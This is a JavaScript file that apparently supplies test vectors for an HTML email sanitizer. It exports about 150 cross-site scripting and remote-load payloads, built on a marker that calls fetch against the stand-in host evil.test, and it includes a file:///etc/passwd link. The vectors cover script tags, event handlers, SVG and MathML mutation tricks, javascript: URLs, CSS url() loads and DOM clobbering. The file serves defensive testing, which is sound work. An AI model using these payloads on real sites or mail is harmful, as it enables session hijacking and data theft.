// Ways to run a script, to fetch from elsewhere or to lead away, as they are
// written into mails. HIT is what a script would do if it ran; E is a host
// that no mail may reach.
const HIT = "top.ran=1;parent.ran=1;self.ran=1;alert(1);fetch('http://evil.test/hit')";
const E = "http://evil.test";

const events = ["onload", "onerror", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpageshow", "onbeforeprint"];
const handlers = [
  ["svg", "onload"], ["img src=x", "onerror"], ["body", "onload"], ["details open", "ontoggle"], ["video src=x", "onerror"],
  ["audio src=x", "onerror"], ["input autofocus", "onfocus"], ["select autofocus", "onfocus"], ["textarea autofocus", "onfocus"],
  ["marquee", "onstart"], ["object data=x", "onerror"], ["iframe src=about:blank", "onload"], ["style", "onload"], ["p", "onmouseover"],
].map(([tag, event]) => `<${tag} ${event}="${HIT}">x`);

const scripts = [
  `<script>${HIT}</script>`, `<SCRIPT>${HIT}</SCRIPT>`, `<script\n>${HIT}</script\n>`, `<script/x>${HIT}</script>`, `<script src=${E}/a.js></script>`,
  `<script src=//evil.test/a.js></script>`, `<scr<script>ipt>${HIT}</scr</script>ipt>`, `<<script>${HIT}//<</script>`, `<script>${HIT}`,
  `"><script>${HIT}</script>`, `'><script>${HIT}</script>`, `--><script>${HIT}</script>`, `]]><script>${HIT}</script>`, `</title><script>${HIT}</script>`,
  `</textarea><script>${HIT}</script>`, `</style><script>${HIT}</script>`, `<script type=module>import '${E}/m.js'</script>`,
  `<script nonce=x>${HIT}</script>`, `<template><script>${HIT}</script></template>`, `<noscript><p title="</noscript><script>${HIT}</script>">`,
  `<!--><script>${HIT}</script>-->`, `<!-- --!><script>${HIT}</script>-->`, `<![CDATA[<script>${HIT}</script>]]>`, `<?xml version="1.0"?><script>${HIT}</script>`,
  `\u0000<script>${HIT}</script>`, `<scr\u0000ipt>${HIT}</script>`, `&lt;script&gt;${HIT}&lt;/script&gt;`, `\\u003cscript\\u003e${HIT}`, `%3Cscript%3E${HIT}`,
];

const namespaces = [
  `<svg><script>${HIT}</script></svg>`, `<svg><script href="data:text/javascript,${HIT}"/></svg>`, `<svg><animate onbegin="${HIT}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${HIT}"><text y=20>x</text></a></svg>`, `<svg><foreignObject><iframe srcdoc="&lt;script&gt;${HIT}&lt;/script&gt;"></foreignObject></svg>`,
  `<svg><use href="${E}/x.svg#a"></svg>`, `<svg><image href="${E}/x.png"></svg>`, `<svg><style>@import '${E}/x.css'</style></svg>`,
  `<svg><set attributeName=onmouseover to="${HIT}">`, `<svg></p><style><a id="</style><img src=1 onerror=${HIT}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${HIT}">`, `<math><annotation-xml encoding="text/html"><script>${HIT}</script></annotation-xml></math>`,
  `<math href="javascript:${HIT}">x</math>`, `<math><mi//xlink:href="data:x,<script>${HIT}</script>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${HIT}>`,
];

const links = [
  `javascript:${HIT}`, `JaVaScRiPt:${HIT}`, ` javascript:${HIT}`, `java\nscript:${HIT}`, `java\tscript:${HIT}`, `&#106;avascript:${HIT}`,
  `&#x6a;avascript:${HIT}`, `&#0000106avascript:${HIT}`, `javascript&colon;${HIT}`, `\u0001javascript:${HIT}`, `vbscript:${HIT}`,
  `data:text/html,<script>${HIT}</script>`, `data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=`, `blob:x`, `file:///etc/passwd`, `view-source:${E}`,
].map((url) => `<a href="${url}" id=go autofocus>click</a>`);

const fetches = [
  `<img src="${E}/a.png">`, `<img src=//evil.test/a.png>`, `<img srcset="${E}/a.png 1x">`, `<picture><source srcset="${E}/a.png"><img></picture>`,
  `<img src="http:\\\\evil.test\\a.png">`, `<image src="${E}/a.png">`, `<input type=image src="${E}/a.png">`, `<body background="${E}/a.png">`, `<table background="${E}/a.png"><tr><td>x`,
  `<link rel=stylesheet href="${E}/a.css">`, `<link rel=preconnect href="${E}">`, `<link rel=dns-prefetch href="${E}">`, `<link rel=prefetch href="${E}/p">`,
  `<link rel=preload as=image href="${E}/p.png">`, `<link rel=modulepreload href="${E}/p.js">`, `<link rel=icon href="${E}/i.png">`, `<link rel=manifest href="${E}/m">`,
  `<link rel=prerender href="${E}/p">`, `<base href="${E}/"><img src=rel.png><a href=x>x</a>`, `<iframe src="${E}/f"></iframe>`, `<frameset><frame src="${E}/f"></frameset>`,
  `<iframe srcdoc="<script>${HIT}</script>"></iframe>`, `<object data="${E}/o"></object>`, `<embed src="${E}/e">`, `<applet code="${E}/e">`, `<video src="${E}/v" poster="${E}/p.png" autoplay></video>`,
  `<audio src="${E}/a" autoplay></audio>`, `<video><track default src="${E}/t"></video>`, `<portal src="${E}/p">`, `<fencedframe src="${E}/p">`,
  `<style>@import '${E}/x.css';</style>`, `<style>body{background:url(${E}/x.png)}</style>`, `<style>@font-face{font-family:x;src:url(${E}/f)}*{font-family:x}</style>`,
  `<p style="background:url(${E}/x.png)">x</p>`, `<p style="background-image:image-set('${E}/x.png' 1x)">x</p>`, `<p style="list-style-image:url(${E}/x.png)">x</p>`,
  `<p style="content:url(${E}/x.png)">x</p>`, `<p style="cursor:url(${E}/x.cur),auto">x</p>`, `<p style="b\\61ckground:u\\72l(${E}/x.png)">x</p>`, `<p style="background:/**/url(${E}/x.png)">x</p>`,
  `<p style="width:expression(${HIT})">x</p>`, `<p style="-moz-binding:url(${E}/x.xml#a)">x</p>`, `<p style="behavior:url(${E}/x.htc)">x</p>`, `<p style="--x:url(${E}/x.png);background:var(--x)">x</p>`,
  `<p style='background:&#117;rl(${E}/x.png)'>x</p>`, `<meta http-equiv=refresh content="0;url=${E}/r">`, `<meta http-equiv=refresh content="0;url=javascript:${HIT}">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`, `<meta http-equiv=set-cookie content="a=b">`, `<form action="${E}/f"><input name=a value=b><button autofocus>x</button></form><script>document.forms[0].submit()</script>`,
  `<button formaction="javascript:${HIT}">x</button>`, `<isindex action="javascript:${HIT}">`, `<a ping="${E}/ping" href="#">x</a>`, `<area href="${E}">`, `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${HIT}'/>">`,
  `<img src="cid:x"><img src="cid:../../x">`, `<img src="mhtml:${E}">`, `<bgsound src="${E}/b">`, `<layer src="${E}/l">`, `<xml src="${E}/x">`, `<link rel=import href="${E}/i">`,
  `<html manifest="${E}/m">`, `<blockquote cite="${E}/c">x</blockquote>`, `<del cite="${E}/c">x</del>`, `<p dir=rtl\u202e>x`, `<img lowsrc="${E}/a.png" dynsrc="${E}/b">`,
];

const attributes = [
  ...events.map((e) => `<div ${e}="${HIT}" tabindex=1 autofocus style="animation:x 1s">x</div>`),
  `<img src="x" title="\`" alt="\`onerror=${HIT}">`, `<p title='"><img src=x onerror=${HIT}>'>x</p>`, `<p title="&quot;><img src=x onerror=${HIT}>">x</p>`, `<img """><script>${HIT}</script>">`,
  `<img/src=x/onerror=${HIT}>`, `<img\u000csrc=x\u000conerror=${HIT}>`, `<img src=x:x onerror\n=\n${HIT}>`, `<img src=x onerror\u0000=${HIT}>`, `<a href='x'onclick='${HIT}'autofocus>x`,
  `<div id=app class=shell></div><form id=toasts>`, `<img name=getElementById><form name=body>`, `<a id=defaultView>x`, `<input name=attributes>`,
];

export const vectors = [...scripts, ...handlers, ...namespaces, ...links, ...fetches, ...attributes];
